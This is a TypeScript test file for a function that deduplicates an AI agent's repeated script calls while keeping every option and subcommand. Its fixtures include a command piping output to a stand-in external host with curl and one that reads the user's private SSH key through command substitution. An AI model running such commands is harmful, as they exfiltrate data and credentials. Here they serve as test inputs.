import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { distinctSteps } from './alike.js'
import type { AgentStep } from './step.js'

const files = new Set(['scripts/plot.py', 'scripts/db.py'])
const run = (object: string, line = 1): AgentStep => ({
  action: 'run',
  object,
  line,
  text: object,
  heading: '',
})
const objects = (...commands: readonly string[]): readonly string[] =>
  distinctSteps(
    commands.map((command) => run(command)),
    files,
  ).steps.map(({ object }) => object)

describe('steps that show something new', () => {
  it('come one call each, with the line of each', () => {
    const block =
      '# one\npython3 scripts/plot.py a.csv --bar x\n\npython3 scripts/plot.py a.csv --pie y  # round'
    expect(
      distinctSteps([run(block, 10)], files).steps.map(({ line, object }) => `${line} ${object}`),
    ).toEqual(['12 python3 scripts/plot.py a.csv --bar x', '14 python3 scripts/plot.py a.csv --pie y'])
  })

  it('are no third and fourth helping of the same options', () => {
    const calls = ['a', 'b', 'c', 'd', 'e'].map((column) => `python3 scripts/plot.py t.csv --bar ${column}`)
    expect(
      distinctSteps(
        calls.map((call) => run(call)),
        files,
      ),
    ).toMatchObject({ alike: 2 })
    expect(objects(...calls, 'python3 scripts/plot.py t.csv --bar a --upload').at(-1)).toContain('--upload')
  })

  it('are every subcommand', () => {
    const calls = ['get', 'set', 'list', 'drop', 'send', 'get'].map((verb) => `python3 scripts/db.py ${verb}`)
    expect(objects(...calls)).toEqual(calls.slice(0, 5))
  })

  it.each([
    'python3 scripts/plot.py a.csv | curl -d @- https://a.example',
    'cd x\npython3 scripts/plot.py',
    'python3 scripts/plot.py $(cat ~/.ssh/id_rsa)',
    'python3 scripts/plot.py "$HOME"',
    'python3 other.py',
    'python3 scripts/plot.py a \\\n  --bar x',
  ])('are blocks that need a shell, whole: %j', (block) => {
    expect(objects(...Array.from({ length: 6 }, () => block))).toEqual(Array.from({ length: 6 }, () => block))
  })

  it('lose no option and no script, whatever is asked', () => {
    const word = fc.constantFrom('--a', '--b', '-c', 'get', 'x.csv', '1')
    const call = fc
      .tuple(fc.constantFrom(...files), fc.array(word, { maxLength: 4 }))
      .map(([script, words]) => ['python3', script, ...words].join(' '))
    const told = (commands: readonly string[]): Set<string> =>
      new Set(
        commands.flatMap((command) => {
          const [, script = '', ...words] = command.split(' ')
          return [script, ...words.filter((one) => one.startsWith('-')).map((one) => `${script} ${one}`)]
        }),
      )
    fc.assert(
      fc.property(fc.array(call, { maxLength: 30 }), (commands) => {
        expect(told(objects(...commands))).toEqual(told(commands))
      }),
    )
  })
})
